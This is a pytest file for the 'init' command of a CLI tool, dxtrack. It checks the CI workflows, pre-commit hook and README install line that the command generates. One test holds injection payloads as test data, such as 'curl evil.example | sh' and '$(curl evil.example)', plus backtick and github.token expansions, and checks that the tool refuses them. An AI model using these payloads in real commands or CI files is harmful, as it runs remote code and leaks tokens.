"""`dxtrack init --ci github|gitlab --source SPEC` (issue 15): the CI file of each system, the
pre-commit hook that runs on every commit, where every generated file installs dxtrack from,
and the refusal of a source that could break out of the YAML or the shell quoting.

The CI scripts are run as written (bash, the real `dxtrack` of this environment) on the repo
`init` made, so an option name that does not exist or a report the artifact does not find fails.
"""

from __future__ import annotations

import json
import os
import shlex
import subprocess
import sys
from pathlib import Path

import pytest
import yaml

from dxtrack import __version__

ROOT = Path(__file__).resolve().parents[2]
BIN = Path(sys.executable).parent          # the `dxtrack` of this environment
SOURCES = [f"dxtrack=={__version__}", "dxtrack[docx]>=0.2,<1", "dxtrack~=0.2.0",
           "git+https://github.com/dang-uy-chinh-phu/dxtrack@v0.2.0", "/opt/dxtrack",
           "./vendor/dxtrack-0.2.0-py3-none-any.whl", "https://example.org/dxtrack-0.2.0.tar.gz"]


def _init(cli, root: Path, *args: str) -> None:
    result = cli(["init", root, *args])
    assert result.exit_code == 0, result.output


def _yaml(path: Path):
    return yaml.safe_load(path.read_text(encoding="utf-8"))


def _bash(script: str, cwd: Path, **env: str) -> subprocess.CompletedProcess:
    """`script` as a CI runner runs it: bash, stop at the first failing line."""
    environ = {**os.environ, "PATH": f"{BIN}{os.pathsep}{os.environ['PATH']}", **env}
    return subprocess.run(["bash", "-e", "-c", script], cwd=cwd, env=environ, capture_output=True, text=True,
                          timeout=120, check=False)


# --- pre-commit ---------------------------------------------------------------------------------

def test_the_hook_of_this_project_runs_on_every_commit():
    """A commit that only deletes units.yaml has no file to match: without always_run, pre-commit
    skips the hook ("(no files to check) Skipped") though `dxtrack check` fails."""
    [hook] = _yaml(ROOT / ".pre-commit-hooks.yaml")
    assert hook["id"] == "dxtrack-check" and hook["entry"] == "dxtrack check"
    assert hook["always_run"] is True and hook["pass_filenames"] is False


def test_the_hook_init_writes_runs_on_every_commit_and_installs_the_source(tmp_path, cli):
    root = tmp_path / "kho"
    _init(cli, root, "--source", "/opt/dxtrack")
    [repo] = _yaml(root / ".pre-commit-config.yaml")["repos"]
    assert repo["repo"] == "local"
    [hook] = repo["hooks"]
    assert hook == {"id": "dxtrack-check", "name": "dxtrack check", "entry": "dxtrack check", "language": "python",
                    "additional_dependencies": ["/opt/dxtrack"], "pass_filenames": False, "always_run": True}


# --- GitLab -------------------------------------------------------------------------------------

def test_init_ci_gitlab_writes_a_gitlab_ci_file(tmp_path, cli):
    root = tmp_path / "kho"
    _init(cli, root, "--ci", "gitlab")
    assert (root / ".gitlab-ci.yml").is_file() and not (root / ".github").exists()
    ci = _yaml(root / ".gitlab-ci.yml")
    assert ci["variables"]["DXTRACK_SOURCE"] == f"dxtrack=={__version__}"
    assert ci["default"]["before_script"] == ['python -m pip install --quiet -- "$DXTRACK_SOURCE"']
    check, report = ci["dxtrack-check"], ci["dxtrack-report"]
    assert check["artifacts"] == {"when": "always", "reports": {"codequality": "gl-code-quality-report.json"}}
    assert report["artifacts"]["when"] == "always" and report["artifacts"]["paths"] == ["bao-cao.docx"]
    assert "stage" not in check and "stage" not in report  # one stage: a failing check never stops the report
    readme = (root / "README.md").read_text(encoding="utf-8")
    assert ".gitlab-ci.yml" in readme and "merge request" in readme and ".github" not in readme
    assert "dxtrack codeowners -o .gitlab/CODEOWNERS" in readme


def test_gitlab_scripts_run_and_leave_their_artifacts_on_a_failing_check(tmp_path, cli):
    root = tmp_path / "kho"
    _init(cli, root, "--ci", "gitlab")
    (root / "activities" / "bo-tai-chinh").mkdir()
    (root / "activities" / "bo-tai-chinh" / "x.yaml").write_text(
        "type: event\nunit: bo-tai-chinh\nkind: dissemination\ntitle: Hội nghị\ndate: 2025-02-31\nmode: online\n",
        encoding="utf-8")
    ci = _yaml(root / ".gitlab-ci.yml")
    check = _bash("\n".join(ci["dxtrack-check"]["script"]), root)
    assert check.returncode == 1, check.stderr                      # the job fails ...
    assert "x.yaml:5:" in check.stdout and "DX205" in check.stdout   # ... telling why in its log
    quality = json.loads((root / "gl-code-quality-report.json").read_text(encoding="utf-8"))
    assert [(q["check_name"], q["location"]["path"]) for q in quality] == [
        ("DX205", "activities/bo-tai-chinh/x.yaml")]                 # ... and the widget's report is whole
    report = _bash("\n".join(ci["dxtrack-report"]["script"]), root)
    assert report.returncode == 0, report.stderr
    assert (root / ci["dxtrack-report"]["artifacts"]["paths"][0]).stat().st_size > 0


# --- GitHub -------------------------------------------------------------------------------------

def test_init_github_workflow_installs_the_source_and_keeps_the_report(tmp_path, cli):
    root = tmp_path / "kho"
    source = "git+https://github.com/dang-uy-chinh-phu/dxtrack@v0.2.0"
    _init(cli, root, "--ci", "github", "--source", source)
    assert not (root / ".gitlab-ci.yml").exists()
    flow = _yaml(root / ".github/workflows/dxtrack.yml")
    assert flow["env"]["DXTRACK_SOURCE"] == source
    steps = {step.get("name") or step["uses"].split("@")[0]: step for step in flow["jobs"]["check"]["steps"]}
    assert steps["Cài dxtrack"]["run"] == 'python -m pip install -- "$DXTRACK_SOURCE"'
    assert all("dang-uy-chinh-phu" not in step.get("uses", "") for step in steps.values())
    assert steps["Báo cáo kết quả"]["if"] == "always()" and steps["actions/upload-artifact"]["if"] == "always()"
    assert steps["actions/upload-artifact"]["with"]["path"] == "bao-cao.docx"
    # the scripts as the runner runs them: a push (no base ref) checks everything, then the report
    checked = _bash(steps["dxtrack check"]["run"], root, BASE_REF="")
    assert checked.returncode == 0, checked.stdout + checked.stderr
    assert _bash(steps["Báo cáo kết quả"]["run"], root).returncode == 0
    assert (root / "bao-cao.docx").stat().st_size > 0


def test_default_ci_is_github_and_nothing_names_what_does_not_exist(tmp_path, cli):
    """Before: the workflow used `dang-uy-chinh-phu/dxtrack@v0.1.0` (no such tag), the hook that
    repository at rev v0.1.0, and the README `pip install dxtrack` (no such package)."""
    root = tmp_path / "kho"
    _init(cli, root)
    assert (root / ".github/workflows/dxtrack.yml").is_file() and not (root / ".gitlab-ci.yml").exists()
    for path in root.rglob("*"):
        if path.is_file() and "schemas" not in path.parts:
            text = path.read_text(encoding="utf-8")
            assert "v0.1.0" not in text and "dang-uy-chinh-phu/dxtrack@" not in text, path
            assert "pip install dxtrack\n" not in text, path
    assert _yaml(root / ".github/workflows/dxtrack.yml")["env"]["DXTRACK_SOURCE"] == f"dxtrack=={__version__}"


def test_init_recommends_the_yaml_extension_and_ignores_the_venv(tmp_path, cli):
    root = tmp_path / "kho"
    _init(cli, root)
    extensions = json.loads((root / ".vscode/extensions.json").read_text(encoding="utf-8"))
    assert extensions == {"recommendations": ["redhat.vscode-yaml"]}
    assert ".venv/" in (root / ".gitignore").read_text(encoding="utf-8").splitlines()


# --- --source -----------------------------------------------------------------------------------

@pytest.mark.parametrize("source", SOURCES)
def test_every_generated_file_installs_the_source(tmp_path, cli, source):
    for ci in ("github", "gitlab"):
        root = tmp_path / ci
        _init(cli, root, "--ci", ci, "--source", source)
        if ci == "github":
            assert _yaml(root / ".github/workflows/dxtrack.yml")["env"]["DXTRACK_SOURCE"] == source
        else:
            assert _yaml(root / ".gitlab-ci.yml")["variables"]["DXTRACK_SOURCE"] == source
        [hook] = _yaml(root / ".pre-commit-config.yaml")["repos"][0]["hooks"]
        assert hook["additional_dependencies"] == [source]
    # the README's install line, run by a shell with pip replaced by an echo of its arguments
    readme = (tmp_path / "github" / "README.md").read_text(encoding="utf-8")
    [line] = [ln.strip() for ln in readme.splitlines() if ln.strip().startswith("python3 -m venv")]
    command = line.split(" && ")[-1]
    assert shlex.split(command) == ["python", "-m", "pip", "install", source]
    shown = _bash(f"python() {{ printf '%s\\n' \"$@\"; }}\n{command}", tmp_path)
    assert shown.stdout.splitlines() == ["-m", "pip", "install", source]


@pytest.mark.parametrize(("source", "says"), [
    ("dxtrack==0.2.0 --index-url=https://evil.example", "' '"),
    ('dxtrack"; curl evil.example | sh; "', "'\"'"),
    ("dxtrack==0.2.0\nrun: curl evil.example", "'\\n'"),
    ("$(curl evil.example)", "'$'"),
    ("dxtrack`id`", "'`'"),
    ("dxtrack==${{ github.token }}", "'$'"),
    ("dxtrack # comment", "' '"),
    ("-e.", "'-'"),
    ("--index-url=https://evil.example", "'-'"),
])
def test_init_refuses_a_source_that_breaks_out(tmp_path, cli, source, says):
    root = tmp_path / "kho"
    result = cli(["--lang", "en", "init", root, "--source", source])
    assert result.exit_code == 2, result.output
    assert result.stderr.startswith("Error: --source "), result.stderr
    assert says in result.stderr, result.stderr
    assert f"dxtrack=={__version__}" in result.stderr  # an example that works
    assert not root.exists() or list(root.iterdir()) == []


def test_init_refuses_an_empty_or_long_source_and_an_unknown_ci(tmp_path, cli):
    root = tmp_path / "kho"
    empty = cli(["init", root, "--source", ""])
    assert empty.exit_code == 2 and "--source không được để trống" in empty.stderr
    long = cli(["--lang", "en", "init", root, "--source", "dxtrack@" + "a" * 600])
    assert long.exit_code == 2 and "608 characters long, more than 500" in long.stderr
    ci = cli(["init", root, "--ci", "jenkins"])
    assert ci.exit_code == 2 and "--ci \"jenkins\" không có; chọn một trong: github, gitlab." in ci.stderr
    assert not root.exists()
